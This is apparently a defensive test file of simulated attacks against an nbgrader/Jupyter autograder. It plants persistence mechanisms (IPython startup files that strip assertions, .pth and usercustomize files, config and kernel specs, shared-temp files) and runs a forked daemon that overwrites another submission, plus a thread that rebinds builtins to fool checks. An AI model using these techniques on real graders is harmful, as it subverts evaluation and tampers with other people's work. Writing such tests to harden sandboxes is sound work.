"""Things left behind for whoever comes next: start-up files, configuration, daemons."""

from attack_case import Paper, attack


def _write(path: str, text: str) -> str:
    """Give the source of a cell that writes a file, and goes on if it may not."""
    return f"""
import os
try:
    os.makedirs(os.path.dirname({path!r}), exist_ok=True)
    with open({path!r}, "w") as file:
        file.write({text!r})
except OSError as error:
    pass
"""


@attack()
def plants_an_ipython_startup_file(paper: Paper) -> None:
    """Lets every later kernel of IPython delete the assertions in tests."""
    patch = """# <<mark>>
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Drop())
"""
    paper.insert(0, _write("<<home>>/.ipython/profile_default/startup/00-first.py", patch))


@attack()
def plants_a_pth_file(paper: Paper) -> None:
    """Puts a file beside the libraries that every later Python would run."""
    paper.insert(
        0,
        """
        import sysconfig

        try:
            with open(sysconfig.get_path("purelib") + "/<<mark>>.pth", "w") as file:
                file.write("# <<mark>>")
        except OSError:
            pass
        """,
    )


@attack()
def plants_a_usercustomize(paper: Paper) -> None:
    """Puts a module into the grader's home that Python imports when it starts."""
    paper.insert(
        0,
        """
        import os, sys

        folder = "<<home>>/.local/lib/python%d.%d/site-packages" % sys.version_info[:2]
        try:
            os.makedirs(folder, exist_ok=True)
            open(folder + "/usercustomize.py", "w").write("# <<mark>>")
        except OSError:
            pass
        """,
    )


@attack()
def plants_configuration(paper: Paper) -> None:
    """Leaves configuration of Jupyter and nbgrader in the grader's home."""
    for name in ("nbgrader_config.py", "jupyter_config.py"):
        paper.insert(0, _write(f"<<home>>/.jupyter/{name}", "# <<mark>>"))


@attack()
def plants_a_kernel(paper: Paper) -> None:
    """Leaves a kernel of the name that all notebooks ask for."""
    kernel = '{"argv": [], "display_name": "<<mark>>", "language": "python"}'
    path = "<<home>>/.local/share/jupyter/kernels/<<mark>>/kernel.json"
    paper.insert(0, _write(path, kernel))


@attack()
def plants_a_module_for_the_next(paper: Paper) -> None:
    """Leaves modules in the shared temporary folder and beside the instructor's files."""
    paper.insert(0, _write("<<course>>/source/ps1/helper.py", "# <<mark>>"))
    paper.insert(0, _write("<<course>>/nbgrader_hook.py", "# <<mark>>"))


@attack()
def changes_the_shared_library(paper: Paper) -> None:
    """Changes a file of nbgrader itself; it only tries whether it may, by a new file."""
    paper.insert(
        0,
        """
        import os, sysconfig

        try:
            path = sysconfig.get_path("purelib") + "/nbgrader/<<mark>>"
            open(path, "w").close()
            os.remove(path)
            open("<<home>>/<<mark>>", "w").close()
            print("decoy-" + "<<run>>")
        except OSError:
            pass
        """,
    )


@attack(loses="softmax")
def leaves_a_daemon(paper: Paper) -> None:
    """Starts a process that outlives the kernel and writes over another's submission."""
    paper.wrong("softmax")
    paper.extend(
        "softmax",
        """
        import os, time

        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            for descriptor in range(3):
                os.close(descriptor)
            for _ in range(60):
                time.sleep(1)
                try:
                    with open("<<course>>/submitted/z_right/ps1/late.txt", "w") as file:
                        file.write("<<mark>>")
                except OSError:
                    pass
            os._exit(0)
        os.wait()
        """,
    )


@attack()
def leaves_shared_memory(paper: Paper) -> None:
    """Leaves files in /dev/shm and in the folder for temporary files."""
    paper.insert(
        0,
        """
        import tempfile

        for folder in ("/dev/shm", "/var/tmp", tempfile.gettempdir()):
            try:
                open(f"{folder}/<<mark>>", "w").write("<<mark>>")
            except OSError:
                pass
        """,
    )


@attack(loses="softmax")
def answers_from_a_daemon(paper: Paper) -> None:
    """Lets a thread replace its answer by other things after its cell has ended."""
    paper.wrong("softmax")
    paper.extend(
        "softmax",
        """
        import threading, time

        def later():
            while True:
                time.sleep(0.01)
                globals()["close"] = globals()["raises"] = lambda *_: True
                globals()["isinstance"] = globals()["abs"] = lambda *_: -1

        threading.Thread(target=later, daemon=True).start()
        """,
    )


@attack()
def ships_python_start_up_files(paper: Paper) -> None:
    """Hands in what Python and Jupyter run by themselves, wherever they look for it."""
    names = "sitecustomize usercustomize conftest ipython_config ipython_kernel_config"
    for name in (*names.split(), "nbgrader_config", "jupyter_config"):
        paper.ship(f"{name}.py", 'open("<<home>>/<<mark>>", "w").close()')
    paper.ship("pyproject.toml", "[tool.none]")
